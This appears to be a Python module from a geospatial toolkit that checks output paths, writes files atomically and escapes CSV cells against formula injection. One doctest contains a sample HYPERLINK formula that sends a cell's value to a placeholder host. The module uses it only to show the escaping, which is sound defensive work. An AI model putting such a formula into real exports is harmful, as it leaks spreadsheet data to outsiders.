"""Safe writing: outputs that never destroy inputs, atomic replacement, spreadsheet-safe cells.

Every file the toolkit writes goes through this module:

- :func:`check_output` runs before a command does any work and refuses, with one line
  that names the option, the path and the fix, an output that cannot be written or
  that is one of the command's inputs (or another of its outputs).
- :func:`write_atomically`, :func:`write_text_atomically` and :func:`replace_atomically`
  write to a temporary file created exclusively (``O_EXCL``) in the target's folder and
  move it onto the target with :func:`os.replace`: a reader sees the old file or the
  new one, never half of one, and nobody can plant a file or link at the temporary name
  for the writer to follow. The temporary file is removed on any failure; an
  :class:`OSError` (disk full, read-only file system...) becomes
  :class:`~geo.errors.OutputError`, one line with the path and the reason.
- :func:`spreadsheet_safe` keeps CSV cells from running as formulas in a spreadsheet
  (OWASP's rule: a leading apostrophe), and :func:`from_spreadsheet_safe` undoes it
  when the toolkit reads its own files back.
"""

from __future__ import annotations

import errno
import os
import re
import stat
import tempfile
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager, suppress
from functools import cache
from pathlib import Path
from typing import IO, Any

from .errors import InputError, OutputError

__all__ = [
    "check_output",
    "from_spreadsheet_safe",
    "replace_atomically",
    "spreadsheet_safe",
    "write_atomically",
    "write_text_atomically",
]

# A cell a spreadsheet would run: it starts (after any apostrophes) with one of these.
_FORMULA = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")
# A plain number, which a spreadsheet reads as a number, not a formula: -3.5, +12, -1e-5.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


# --- spreadsheet-safe cells ------------------------------------------------------------


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a CSV cell that a spreadsheet shows as text instead of running it.

    A string that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
    (after any apostrophes) gets one leading ``'``; plain numbers (``-3.5``, ``+12``)
    and values that are not strings are returned unchanged.

    Examples
    --------
    >>> spreadsheet_safe('=HYPERLINK("http://x?leak="&A1)')
    '\\'=HYPERLINK("http://x?leak="&A1)'
    >>> spreadsheet_safe("-3.5"), spreadsheet_safe(-3.5), spreadsheet_safe("Ménaka")
    ('-3.5', -3.5, 'Ménaka')
    >>> spreadsheet_safe("'=1+2")
    "''=1+2"
    """
    if isinstance(value, str) and _FORMULA.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def from_spreadsheet_safe(cell: str) -> str:
    """Undo :func:`spreadsheet_safe`: ``from_spreadsheet_safe(spreadsheet_safe(s)) == s``.

    Exactly one leading ``'`` is removed, and only from a cell that
    :func:`spreadsheet_safe` would have written (apostrophes, then ``=+-@``, tab or CR).

    Examples
    --------
    >>> from_spreadsheet_safe("'=1+2"), from_spreadsheet_safe("''=1+2"), from_spreadsheet_safe("'quoted'")
    ('=1+2', "'=1+2", "'quoted'")
    """
    if _ESCAPED.match(cell):
        return cell[1:]
    return cell


# --- checking outputs before any work ------------------------------------------------------


def _label(item: Any) -> tuple[str, Path | None]:
    if isinstance(item, tuple):
        label, path = item
    else:
        label, path = "", item
    if path is None or str(path) == "":
        return label, None
    return label, Path(path)


def _same(a: Path, b: Path) -> bool:
    """Whether ``a`` and ``b`` name the same file: resolved paths (links followed), or one inode."""
    try:
        if a.resolve() == b.resolve():
            return True
    except (OSError, RuntimeError):  # a link loop
        pass
    try:
        return os.path.samefile(a, b)
    except OSError:
        return False


def _within(inner: Path, outer: Path) -> bool:
    try:
        return inner.resolve().is_relative_to(outer.resolve()) or _same(inner, outer)
    except (OSError, RuntimeError):
        return False


def _probe(folder: Path) -> OSError | None:
    """Create and remove an exclusive temporary file in ``folder``: the honest test of writing."""
    try:
        handle, name = tempfile.mkstemp(dir=folder, prefix=".geo-write-test.", suffix=".tmp")
    except OSError as error:
        return error
    os.close(handle)
    with suppress(OSError):
        os.unlink(name)
    return None


def _is_dir(path: Path) -> bool:
    try:
        return stat.S_ISDIR(path.stat().st_mode)
    except OSError:
        return False


def check_output(
    path: str | Path | None,
    *,
    option: str,
    inputs: Iterable[Any] = (),
    outputs: Iterable[Any] = (),
    kind: str = "file",
    create_parent: bool = False,
) -> Path | None:
    """Check that the output ``path`` given with ``option`` can be written; return it as a Path.

    Raises :class:`~geo.errors.InputError` (a usage error) for an empty path, a folder
    where a file is wanted (``kind="file"``) or a file where a folder is wanted
    (``kind="dir"``), a parent folder missing more than one level deep (a likely typo;
    one missing level, as in ``--out my-seeds/incidents.csv``, is created when the file
    is written, and so is any depth with ``create_parent`` or for an output folder),
    an ancestor that is a file, a folder in which no file can be created, or an output
    that is one of the ``inputs`` or ``outputs`` (paths, or ``(label, path)`` pairs;
    ``None`` items are skipped). With ``kind="dir"``, an output folder that is or
    contains an input folder is refused too. Returns ``None`` when ``path`` is ``None``
    (an option not given).

    Examples
    --------
    >>> import tempfile
    >>> folder = Path(tempfile.mkdtemp())
    >>> check_output(folder / "map.html", option="--out") == folder / "map.html"
    True
    >>> check_output(folder, option="--out")  # doctest: +ELLIPSIS
    Traceback (most recent call last):
    ...
    geo.errors.InputError: --out ...: is a folder; give the path of a file to write in it, such as .../out.html
    """
    if path is None:
        return None
    if str(path).strip() == "":
        raise InputError(f"{option}: the path is empty; give the {'folder' if kind == 'dir' else 'file'} to write")
    target = Path(path)
    shown = str(path)
    for label, source in map(_label, inputs):
        if source is None:
            continue
        what = f"{label} {source}" if label else str(source)
        if kind == "dir" and _is_dir(source):
            if _within(source, target):
                relation = "is" if _same(source, target) else "contains"
                raise InputError(
                    f"{option} {shown} {relation} the {what if label else 'input folder ' + what}, which is read: "
                    "writing there could replace its files; give another folder"
                )
        elif _same(target, source):
            raise InputError(
                f"{option} {shown} is the input {what}: writing it would destroy what is read; give another output path"
            )
    for label, other in map(_label, outputs):
        if other is not None and _same(target, other):
            what = f"{label} {other}" if label else str(other)
            raise InputError(f"{option} {shown} is also the output {what}; give each output its own path")
    try:
        exists = os.path.lexists(target)
        is_dir = _is_dir(target)
    except OSError:  # pragma: no cover - lexists does not raise
        exists, is_dir = False, False
    if kind == "dir":
        if exists and not is_dir:
            if target.is_symlink() and not target.exists():
                raise InputError(f"{option} {shown}: is a link to {os.readlink(target)}, which does not exist")
            raise InputError(f"{option} {shown}: is a file, not a folder; give the folder to write the files in")
        folder = target
        while not os.path.lexists(folder) and folder != folder.parent:
            folder = folder.parent
        if not _is_dir(folder):
            raise InputError(f"{option} {shown}: {folder} is a file, not a folder; give a folder path")
        _check_writable(folder, option, shown)
        return target
    if is_dir:
        raise InputError(
            f"{option} {shown}: is a folder; give the path of a file to write in it, such as "
            f"{target / ('out' + (target.suffix or '.html'))}"
        )
    parent = target.parent
    if not os.path.lexists(parent):
        ancestor = parent
        while not os.path.lexists(ancestor) and ancestor != ancestor.parent:
            ancestor = ancestor.parent
        if not _is_dir(ancestor):
            raise InputError(f"{option} {shown}: {ancestor} is a file, not a folder; give a path in a folder")
        if not (create_parent or _is_dir(parent.parent)):
            raise InputError(
                f"{option} {shown}: the folder {parent} does not exist; create it (mkdir -p {parent}) "
                "or give a path in an existing folder"
            )
        _check_writable(ancestor, option, shown)
        return target
    if not _is_dir(parent):
        raise InputError(f"{option} {shown}: {parent} is a file, not a folder; give a path in a folder")
    _check_writable(parent, option, shown)
    return target


def _check_writable(folder: Path, option: str, shown: str) -> None:
    error: OSError | None = (
        None if os.access(folder, os.W_OK | os.X_OK) else PermissionError(errno.EACCES, os.strerror(errno.EACCES))
    )
    error = error or _probe(folder)
    if error is not None:
        reason = error.strerror or str(error)
        raise InputError(
            f"{option} {shown}: cannot create a file in {folder} ({reason}); give a path in a writable folder"
        )


# --- atomic writing -----------------------------------------------------------------------


@cache
def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def _new_mode(target: Path) -> int:
    """The mode the written file should have: the old file's, else what ``open`` would give."""
    try:
        return stat.S_IMODE(os.stat(target).st_mode)
    except OSError:
        return 0o666 & ~_umask()


def _temporary(target: Path, suffix: str) -> tuple[int, Path]:
    """An exclusive (``O_EXCL``) temporary file next to ``target``: its descriptor and path."""
    handle, name = tempfile.mkstemp(dir=target.parent, prefix=f".{target.name}.", suffix=suffix)
    with suppress(OSError):  # some file systems have no modes
        os.fchmod(handle, _new_mode(target))
    return handle, Path(name)


def _remove(tmp: Path) -> None:
    for leftover in (tmp, *(Path(f"{tmp}{end}") for end in ("-journal", "-wal", "-shm"))):
        with suppress(OSError):
            os.unlink(leftover)


def _failed(target: Path, error: OSError) -> OutputError:
    reason = error.strerror or str(error)
    return OutputError(f"cannot write {target}: {reason}", path=str(target), errno=error.errno)


def write_atomically(
    target: str | Path, write: Callable[[IO[Any]], object], *, binary: bool = False, fsync: bool = True
) -> Path:
    """Call ``write(handle)`` on a new temporary file next to ``target``, then put it in its place.

    The handle is text (UTF-8, ``newline=""``, so that the csv module controls line
    ends) unless ``binary``. A missing folder is created. The temporary file is created
    with ``O_EXCL`` and written
    through the descriptor it was created with; with ``fsync`` its data reach the disk
    before :func:`os.replace` moves it onto ``target``. On any failure it is removed
    and ``target`` is left as it was; an :class:`OSError` becomes
    :class:`~geo.errors.OutputError`.

    Examples
    --------
    >>> import tempfile
    >>> target = Path(tempfile.mkdtemp()) / "note.txt"
    >>> write_atomically(target, lambda handle: handle.write("hello\\n")).read_text()
    'hello\\n'
    """
    target = Path(target)
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        handle, tmp = _temporary(target, ".tmp")
    except OSError as error:
        raise _failed(target, error) from None
    try:
        f: IO[Any] = os.fdopen(handle, "wb") if binary else os.fdopen(handle, "w", encoding="utf-8", newline="")
        with f:
            write(f)
            f.flush()
            if fsync:
                os.fsync(f.fileno())
        os.replace(tmp, target)
    except OSError as error:
        _remove(tmp)
        raise _failed(target, error) from None
    except BaseException:
        _remove(tmp)
        raise
    return target


def write_text_atomically(target: str | Path, text: str) -> Path:
    """Write ``text`` to ``target`` as UTF-8, atomically (see :func:`write_atomically`).

    Examples
    --------
    >>> import tempfile
    >>> target = Path(tempfile.mkdtemp()) / "page.html"
    >>> write_text_atomically(target, "<p>Ménaka</p>").read_text(encoding="utf-8")
    '<p>Ménaka</p>'
    """
    return write_atomically(target, lambda handle: handle.write(text))


def replace_atomically(
    target: str | Path,
    write: Callable[[Path], None],
    *,
    suffix: str = ".tmp",
    copy_from: str | Path | None = None,
    fsync: bool = True,
) -> Path:
    """For writers that need a path (GDAL, matplotlib): ``write(tmp)``, then ``tmp`` onto ``target``.

    ``tmp`` is created exclusively next to ``target`` (empty, or a copy of ``copy_from``
    written through its descriptor) before ``write`` sees it, so the writer opens a
    file this process created, never one planted at a guessed name. ``suffix`` ends
    the temporary name (``.tmp.gpkg`` for GDAL, which checks extensions). Failures are
    handled as in :func:`write_atomically`.

    Examples
    --------
    >>> import tempfile
    >>> target = Path(tempfile.mkdtemp()) / "data.bin"
    >>> replace_atomically(target, lambda tmp: tmp.write_bytes(b"ok")).read_bytes()
    b'ok'
    """
    target = Path(target)
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        handle, tmp = _temporary(target, suffix)
    except OSError as error:
        raise _failed(target, error) from None
    try:
        with os.fdopen(handle, "wb") as f:
            if copy_from is not None:
                with open(copy_from, "rb") as source:
                    while chunk := source.read(1 << 20):
                        f.write(chunk)
        write(tmp)
        if fsync:
            fd = os.open(tmp, os.O_RDONLY)
            try:
                os.fsync(fd)
            finally:
                os.close(fd)
        os.replace(tmp, target)
    except OSError as error:
        _remove(tmp)
        raise _failed(target, error) from None
    except BaseException:
        _remove(tmp)
        raise
    return target


@contextmanager
def paused_gc() -> Iterator[None]:
    """Pause the cyclic garbage collector while a block makes many objects that hold no cycles.

    Reading or building hundreds of thousands of records makes millions of small
    containers, and each pass of the collector walks every one of them: pausing it
    saves about a fifth of the time. Reference counting still frees memory as usual;
    the collector is restored (when it was on) on leaving the block, even on an error.

    Examples
    --------
    >>> import gc
    >>> with paused_gc():
    ...     gc.isenabled()
    False
    >>> gc.isenabled()
    True
    """
    import gc

    enabled = gc.isenabled()
    gc.disable()
    try:
        yield
    finally:
        if enabled:
            gc.enable()
